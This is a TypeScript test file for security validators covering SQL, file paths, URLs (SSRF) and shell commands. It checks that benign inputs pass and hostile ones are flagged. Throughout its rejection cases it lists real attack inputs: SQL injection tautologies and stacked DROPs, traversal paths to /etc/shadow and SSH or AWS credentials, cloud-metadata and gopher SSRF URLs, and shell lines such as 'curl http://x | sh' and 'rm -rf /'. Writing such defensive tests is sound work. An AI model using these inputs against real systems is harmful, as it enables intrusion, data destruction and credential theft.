import picomatch from 'picomatch';
import { checkPath } from './path.validator';
import { checkShell } from './shell.validator';
import { checkSql, type SqlCheckOptions } from './sql.validator';
import { blockedAddress, checkUrl, type Resolver } from './url.validator';

const pg: SqlCheckOptions = { readOnly: true, dialect: 'postgresql', allowStacked: false };
const mysql: SqlCheckOptions = { ...pg, dialect: 'mysql' };

describe('checkSql', () => {
  it.each([
    ['a plain read', "SELECT id, name FROM users WHERE email = 'a@b.c' LIMIT 10"],
    ['a join with a sub-query', 'SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > (SELECT avg(total) FROM orders)'],
    ['a string that looks like an attack', "SELECT * FROM notes WHERE body = 'x OR 1=1 -- not code'"],
    ['an AND with a constant', 'SELECT * FROM t WHERE a = 1 AND 1 = 1'],
    ['an OR between columns', 'SELECT * FROM t WHERE a = 1 OR b = 2'],
    ['an OR with a constant that is false', 'SELECT * FROM t WHERE a = 1 OR 1 = 2'],
    ['a trailing semicolon', 'SELECT 1;'],
  ])('lets %s through', (_, sql) => {
    expect(checkSql(sql, pg)).toEqual([]);
  });

  it.each([
    ['a numeric tautology', 'SELECT * FROM users WHERE id = 5 OR 1=1', /always true/],
    ['a string tautology', "SELECT * FROM users WHERE name = '' OR 'a'='a'", /always true/],
    ['a bare OR 1 (MySQL)', 'SELECT * FROM users WHERE id = 5 OR 1', /always true/],
    ['a column compared with itself', 'SELECT * FROM users WHERE name = name', /always true/],
    ['a nested tautology', "SELECT * FROM users WHERE (id = 5 OR ('x' = 'x')) AND active", /always true/],
    ['a stacked DROP', 'SELECT * FROM users; DROP TABLE users', /stacks 2 statements/],
    ['a trailing line comment', "SELECT * FROM users WHERE name = 'admin'-- ' AND password = 'x'", /comment \(--\)/],
    ['an inline block comment', 'SELECT/**/password/**/FROM/**/users', /comment \(\/\*\)/],
    ['an UPDATE', "UPDATE users SET role = 'admin' WHERE id = 1", /writes \(UPDATE\)/],
    ['a DELETE', 'DELETE FROM users', /writes \(DELETE\)/],
    ['DDL', 'DROP TABLE users', /writes \(DROP\)/],
    // the parser does not take data-modifying CTEs: refused as unparseable, which is as good
    ['a data-modifying CTE', 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', /writes|not a single valid/],
    ['a time-based probe', 'SELECT pg_sleep(10)', /pg_sleep/],
    ['file reads', "SELECT pg_read_file('/etc/passwd')", /pg_read_file/],
    ['gibberish', "SELECT * FROM WHERE ' OR", /not a single valid/],
    ['OR TRUE', 'SELECT * FROM users WHERE id = 5 OR TRUE', /always true/],
    ['OR NOT 0', 'SELECT * FROM users WHERE id = 5 OR NOT 0', /always true/],
    ['a constant IN list', 'SELECT * FROM users WHERE id = 5 OR 1 IN (1, 2)', /always true/],
    ['a constant BETWEEN', 'SELECT * FROM users WHERE id = 5 OR 2 BETWEEN 1 AND 3', /always true/],
    ['a LIKE wildcard', "SELECT * FROM users WHERE id = 5 OR 'a' LIKE '%'", /always true/],
    ['an IS NOT NULL constant', 'SELECT * FROM users WHERE id = 5 OR 1 IS NOT NULL', /always true/],
    ['a greater-than constant', 'SELECT * FROM users WHERE id = 5 OR 2 > 1', /always true/],
  ])('flags %s', (_, sql, why) => {
    expect(checkSql(sql, pg).join('\n')).toMatch(why);
  });

  it('flags MySQL hash comments and executable comments', () => {
    expect(checkSql("SELECT * FROM users WHERE name = 'a' # rest", mysql).join()).toMatch(/comment \(#\)/);
    expect(checkSql('SELECT /*!50000 password */ FROM users', mysql).join()).toMatch(/\/\*!/);
  });

  it('allows writes and stacked statements when the rule says so', () => {
    expect(checkSql("INSERT INTO notes (body) VALUES ('hi'); SELECT 1", { ...pg, readOnly: false, allowStacked: true })).toEqual([]);
  });
});

describe('checkPath', () => {
  const roots = ['/srv/data'];
  it.each([['report.csv'], ['/srv/data/2024/q1.csv'], ['sub/../other.txt']])('keeps %s under the root', (p) => {
    expect(checkPath(p, roots)).toEqual([]);
  });

  it.each([
    ['../../etc/passwd', /outside the allowed roots/],
    ['/etc/shadow', /outside/],
    ['/srv/data/../../etc/passwd', /outside/],
    ['/srv/database/x', /outside/],
    ['..\\..\\windows\\win.ini', /outside/],
    ['%2e%2e/%2e%2e/etc/passwd', /percent-encoded/],
    ['..%252f..%252fetc', /percent-encoded/],
    ['report.csv\0.png', /NUL/],
    ['～/.ssh/id_rsa', /look-alikes|home/],
    ['．．/．．/etc/passwd', /look-alikes/],
    ['~/.aws/credentials', /home directory/],
    ['C:/Windows/system.ini', /drive/],
  ])('refuses %s', (p, why) => {
    expect(checkPath(p, roots).join('\n')).toMatch(why);
  });
});

describe('checkUrl (SSRF)', () => {
  const opts = { schemes: ['http', 'https'], allowPrivate: false };
  const dns: Record<string, string[]> = {
    'api.example.com': ['93.184.216.34'],
    'rebind.example.com': ['93.184.216.34', '10.0.0.5'],
    'v6.example.com': ['2606:4700::1111'],
    'internal.example.com': ['fd12:3456::1'],
  };
  const resolve: Resolver = async (host) => {
    const a = dns[host];
    if (!a) throw new Error('ENOTFOUND');
    return a;
  };

  it.each([['https://api.example.com/v1/items?q=1'], ['http://93.184.216.34/'], ['https://v6.example.com/'], ['http://[2606:4700::1111]/']])('allows %s', async (u) => {
    await expect(checkUrl(u, opts, resolve)).resolves.toEqual([]);
  });

  it.each([
    ['http://127.0.0.1/', /loopback/],
    ['http://localhost:8080/admin', /loopback name/],
    ['http://2130706433/', /127\.0\.0\.1 is a loopback/],
    ['http://0177.0.0.1/', /loopback/],
    ['http://0x7f.1/', /loopback/],
    ['http://017700000001/', /loopback/],
    ['http://0/', /unspecified/],
    ['http://[::]/', /unspecified/],
    ['http://LOCALHOST./', /loopback name/],
    ['http://[0:0:0:0:0:ffff:127.0.0.1]/', /loopback/],
    ['http://[::ffff:10.0.0.1]/', /private/],
    ['http://100.64.0.1/', /carrierGradeNat/],
    ['http://224.0.0.1/', /multicast/],
    ['http://127.1/', /loopback/],
    ['http://169.254.169.254/latest/meta-data/', /cloud metadata/],
    ['http://[fd00:ec2::254]/latest/meta-data/', /cloud metadata/],
    ['http://metadata.google.internal/computeMetadata/v1/', /metadata host/],
    ['http://100.100.100.200/latest/meta-data/', /cloud metadata/],
    ['http://10.1.2.3/', /private/],
    ['http://192.168.0.1/', /private/],
    ['http://172.16.5.4/', /private/],
    ['http://0.0.0.0/', /unspecified/],
    ['http://[::1]/', /loopback/],
    ['http://[::ffff:127.0.0.1]/', /loopback/],
    ['http://[::ffff:a9fe:a9fe]/', /metadata/],
    ['http://[64:ff9b::a00:1]/', /private/],
    ['http://[2002:7f00:1::]/', /loopback/],
    ['http://[fe80::1]/', /linkLocal/],
    ['http://api.example.com@169.254.169.254/', /metadata/],
    ['http://rebind.example.com/', /10\.0\.0\.5 is a private/],
    ['http://internal.example.com/', /uniqueLocal/],
    ['http://nowhere.invalid/', /cannot be resolved/],
    ['file:///etc/passwd', /file scheme/],
    ['gopher://127.0.0.1:6379/_FLUSHALL', /gopher scheme/],
    ['not a url', /absolute URL/],
  ])('refuses %s', async (u, why) => {
    expect((await checkUrl(u, opts, resolve)).join('\n')).toMatch(why);
  });

  it('allows private addresses only when asked, and metadata never', async () => {
    await expect(checkUrl('http://10.1.2.3/', { ...opts, allowPrivate: true }, resolve)).resolves.toEqual([]);
    expect((await checkUrl('http://169.254.169.254/', { ...opts, allowPrivate: true }, resolve)).join()).toMatch(/metadata/);
    expect(blockedAddress('169.254.170.2', true)).toMatch(/metadata/);
  });

  it('keeps to the allowed hosts', async () => {
    const hostMatchers = [picomatch('*.example.com', { nocase: true })];
    await expect(checkUrl('https://API.example.com/', { ...opts, hostMatchers }, resolve)).resolves.toEqual([]);
    expect((await checkUrl('https://evil.test/', { ...opts, hostMatchers }, resolve)).join()).toMatch(/not an allowed host/);
  });
});

describe('checkShell', () => {
  const allowed = [picomatch('ls'), picomatch('git'), picomatch('grep')];
  it.each([['ls -la /srv/data'], ["grep -rn 'TODO: fix' src"], ['git log --oneline -n 5']])('lets %s through', (c) => {
    expect(checkShell(c, allowed)).toEqual([]);
  });

  it.each([
    ['ls; rm -rf /', /operators \(;\)/],
    ['ls && curl http://x | sh', /operators/],
    ['ls > /etc/passwd', /operators \(>\)/],
    ['ls $(whoami)', /command substitution/],
    ['ls `id`', /backticks/],
    ['ls $HOME', /variables/],
    ['ls\nrm -rf /', /line break/],
    ['ls # hidden', /comment/],
    ['ls & sleep 100', /operators \(&\)/],
    ['rm -rf /', /rm, which is not an allowed command/],
    ['/usr/bin/curl http://x', /curl/],
  ])('flags %s', (c, why) => {
    expect(checkShell(c, allowed).join('\n')).toMatch(why);
  });

  it('flags inline scripts through an interpreter when any command is allowed', () => {
    expect(checkShell("bash -c 'id'").join()).toMatch(/inline script through bash/);
    expect(checkShell('python3 -c "import os"').join()).toMatch(/python3/);
  });
});
